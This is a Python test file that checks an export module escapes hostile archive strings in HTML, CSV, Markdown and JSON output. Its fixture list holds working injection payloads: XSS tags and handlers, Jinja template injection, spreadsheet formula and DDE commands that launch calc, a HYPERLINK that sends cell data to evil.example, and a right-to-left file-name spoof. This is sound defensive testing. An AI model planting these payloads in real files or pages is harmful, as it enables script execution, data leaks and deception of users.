"""Hostile strings from archives stay inert text in every format: no markup, no formula, no spoofing."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timezone

import pytest

from core.export.csv_writer import cell
from core.export.markdown import md_escape
from core.export.writers import render
from core.model import ActivityRecord, Advertiser, Finding, Grant, Inventory, Source
from core.text import clean_text
from tests.core.test_export_formats import parse_html
from tests.support.report import to_document

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</style><script>alert(2)</script>",
    "<!-- comment --><svg onload=alert(3)>",
    "{{ 7*7 }} {% if 1 %}jinja{% endif %}",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "**bold** _it_ [link](javascript:alert(1)) ![img](https://evil.example/x.png) # head | pipe | `code`",
    "<https://evil.example> www.evil.example &amp; &lt;b&gt;",
    "\u202egpj.exe",  # right-to-left override: reads as "exe.jpg"
    "Nul\x00Bell\x07Esc\x1b[31mRed\x9b",
    "line one\nline two\r\nline three",
    "A" * 5000,
    "Ünïcødé 名前 اسم 🙂",
]
PLAIN = "Ünïcødé 名前 اسم 🙂"


def hostile_inventory() -> Inventory:
    when = datetime(2020, 1, 2, tzinfo=timezone.utc)
    grants = []
    for i, s in enumerate(HOSTILE):
        grants.append(Grant(
            platform="x" if i % 2 else "facebook", app=s, app_id=str(1000 + i), status="active",
            granted_at=when, permissions=(s[:40],), developer=s, developer_url=s, source=s, source_file=s,
            findings=(Finding("unknown_developer", "high", s, s, (s,)),),
        ))
    activity = tuple(ActivityRecord("facebook", s, 1, when, when, (s,), (), s) for s in HOSTILE)
    advertisers = tuple(Advertiser("facebook", s, (s,), s) for s in HOSTILE)
    sources = (Source("facebook", HOSTILE[0], HOSTILE[1], warnings=tuple(HOSTILE)),)
    return Inventory(sources, tuple(grants), activity, advertisers)


@pytest.fixture(scope="module")
def doc() -> dict:
    return to_document(hostile_inventory(), generated_at="2025-01-01T00:00:00Z")


def test_html_shows_hostile_strings_as_text(doc: dict) -> None:
    data = render(doc, "html")
    page = parse_html(data)
    assert "script" not in page.tags and "img" not in page.tags and "iframe" not in page.tags
    assert page.tags.count("svg") == 2 and page.tags.count("style") == 1  # only our own chart and stylesheet
    for tag, k, _ in page.attrs:
        assert not k.startswith("on"), (tag, k)
        assert k not in ("src", "onerror", "onload"), (tag, k)
    text = page.all_text
    for s in ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{ 7*7 }} {% if 1 %}jinja{% endif %}",
              "&amp; &lt;b&gt;", PLAIN):
        assert s in text, s
    assert "49" not in text.replace("2049", "")  # the template never evaluated archive text
    assert "\u202e" not in data.decode() and "\x00" not in data.decode() and "\x1b" not in data.decode()
    assert "gpj.exe" in text  # the text is kept, only the override character is gone


def test_csv_neutralises_formulas(doc: dict) -> None:
    data = render(doc, "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE)
    app = header.index("app")
    for row in body:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
            assert "\x00" not in value and "\u202e" not in value
    apps = [r[app] for r in body]
    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")" in apps
    assert "'+cmd|' /C calc'!A0" in apps
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in apps
    assert "'\t=1+1" in apps
    assert "' =1+1" in apps  # CR became a space, and the leading formula is still neutralised
    assert "<script>alert(1)</script>" in apps and PLAIN in apps


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t1", "'\t1"), ("\r=1", "' =1"),
    ("  =1", "'  =1"), ("plain", "plain"), ("2020-01-02T00:00:00Z", "2020-01-02T00:00:00Z"), (None, ""),
    (12, 12), (True, "yes"),
])
def test_csv_cell(value: object, expected: object) -> None:
    assert cell(value) == expected


def test_markdown_escapes_markup(doc: dict) -> None:
    md = render(doc, "md").decode()
    # Raw HTML and autolinks start with an unescaped "<"; links and images with an unescaped "](".
    unescaped_lt = [m.start() for m in re.finditer(r"(?<!\\)<", md)]
    assert all(md[i:i + 9] == "<https://" for i in unescaped_lt)  # only our own settings links
    assert not re.search(r"(?<!\\)\]\(javascript", md) and not re.search(r"(?<!\\)!\[", md)
    assert "**bold**" not in md
    assert "\u202e" not in md and "\x00" not in md and "\x1b" not in md
    # Every access-table row keeps its shape even with pipes and newlines in app names.
    table = md.split("## Who has access now")[1].split("\n## ")[0]
    rows = [ln for ln in table.splitlines() if ln.startswith("|")]
    assert len(rows) == 2 + len(HOSTILE)
    assert {ln.replace("\\|", "").count("|") for ln in rows} == {7}


def test_md_escape_is_reversible_by_a_commonmark_reader() -> None:
    # A backslash before ASCII punctuation is a literal character in CommonMark: stripping them gives the text.
    s = "**a** [b](c) <d> # e | f ` g ~ h _ i"
    esc = md_escape(s)
    assert esc.replace("\\", "") == s
    assert "*" not in esc.replace("\\*", "")


def test_json_keeps_strings_exactly_but_escapes_controls(doc: dict) -> None:
    data = render(doc, "json")
    back = json.loads(data)
    assert [g["app"] for g in back["grants"]] == HOSTILE
    assert b"\x00" not in data and b"\x1b" not in data


def test_clean_text() -> None:
    assert clean_text("a\u202eb\u2066c\x00d\x7fe\r\nf") == "abcde f"
    assert clean_text(PLAIN) == PLAIN
    assert clean_text(None) == ""
